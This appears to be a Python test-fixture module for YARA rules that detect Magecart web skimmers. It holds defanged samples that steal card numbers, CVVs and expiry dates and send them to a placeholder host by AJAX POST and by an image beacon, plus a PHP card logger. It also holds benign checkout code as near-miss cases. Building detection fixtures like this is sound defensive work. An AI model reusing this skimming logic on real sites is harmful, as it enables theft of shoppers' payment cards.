"""Inert samples and near-misses for signatures/rules/web_skimmers.yar.

The JavaScript samples return before any statement (``return;`` inside a function nobody calls)
and send to the documentation address only; the PHP sample exits on its first line. The
near-misses are ordinary checkout code: the same card fields, serialised and posted to the
shop's own payment endpoint.
"""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, split, text


def jquery_skimmer() -> dict[str, bytes]:
    return {
        "form-skimmer-js": text(
            f"function neverCalled() {{ return; // {INERT_NOTE}",
            split('jQuery("#submitButton").bind("mouseup ', 'touchend", function(a) {'),
            "  var n = {};",
            split('  jQuery("#paymentForm").serializeArray().map(function(a) ', "{ n[a.name] = a.value });"),
            '  n.person = document.getElementById("personPaying").innerHTML;',
            "  var t = JSON.stringify(n);",
            "  setTimeout(function() {",
            f'    jQuery.ajax({{ type: "POST", async: !0, url: "https://{HOST}/gateway/api/", data: t,',
            split('      dataType: "application/', 'json" });'),
            "  }, 500);",
            "}); }",
        )
    }


def image_skimmer() -> dict[str, bytes]:
    return {
        "image-beacon-skimmer-js": text(
            f"function neverCalled() {{ return; // {INERT_NOTE}",
            split('if (location.href.indexOf("one', 'page") < 0) return;'),
            "var f = {};",
            '["cc_number", "cc_cid", "cc_exp_month", "cc_exp_year"].forEach(function (k) {',
            '  var e = document.querySelector("[name*=\\"" + k + "\\"]"); if (e) f[k] = e.value; });',
            split("var d = btoa(JSON.", "stringify(f));"),
            split("new Image().", f'src = "https://{HOST}/i.png?d=" + d;'),
            "}",
        )
    }


def php_logger() -> dict[str, bytes]:
    return {
        "payment-card-logger-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "class Cc extends Mage_Payment_Model_Method_Abstract { public function validate() {",
            split("$d = base64_encode(serialize(array($_POST['payment']['cc_", "number'],"),
            split("  $_POST['payment']['cc_", "cid'], $_POST['payment']['cc_exp_month'])));"),
            split("file_put_contents('/tmp/.sess', $d.\"\\n\", ", "FILE_APPEND);"),
            "return parent::validate(); } } */",
        )
    }


def near_checkout() -> dict[str, bytes]:
    return {
        "checkout-payment-js": text(
            "// checkout: validate the card form and submit it to our payment endpoint",
            'jQuery("#paymentForm").on("submit", function (event) {',
            "  event.preventDefault();",
            "  var data = {};",
            "  jQuery(this).serializeArray().forEach(function (f) { data[f.name] = f.value; });",
            "  if (!/^[0-9 ]{12,23}$/.test(data.cc_number) || !data.cc_cid || !data.cc_exp_month) return;",
            '  if (location.pathname.indexOf("checkout") < 0) return;',
            '  jQuery.ajax({ type: "POST", url: "/checkout/payment", data: JSON.stringify(data),',
            '    contentType: "application/json", dataType: "json" });',
            '  new Image().src = "/metrics/pixel.gif?step=payment";',
            "});",
        )
    }


def near_magento() -> dict[str, bytes]:
    return {
        "magento-cc-validate-php": text(
            "<?php",
            "class Local_Payment_Model_Method_Cc extends Mage_Payment_Model_Method_Cc {",
            "    public function assignData($data) {",
            "        $info = $this->getInfoInstance();",
            "        $info->setCcNumber($data->getCcNumber())->setCcCid($data->getCcCid());",
            "        $post = $_POST['payment'];",
            "        Mage::log('payment method ' . base64_encode($post['method']), null, 'payment.log');",
            "        return $this;",
            "    }",
            "}",
        )
    }


SAMPLES: Builders = {
    "Magecart_JQuery_Form_Skimmer": jquery_skimmer,
    "Magecart_Image_Beacon_Skimmer": image_skimmer,
    "Magecart_PHP_Card_Logger": php_logger,
}

NEARMISS: Builders = {
    "Magecart_JQuery_Form_Skimmer": near_checkout,
    "Magecart_Image_Beacon_Skimmer": near_checkout,
    "Magecart_PHP_Card_Logger": near_magento,
}
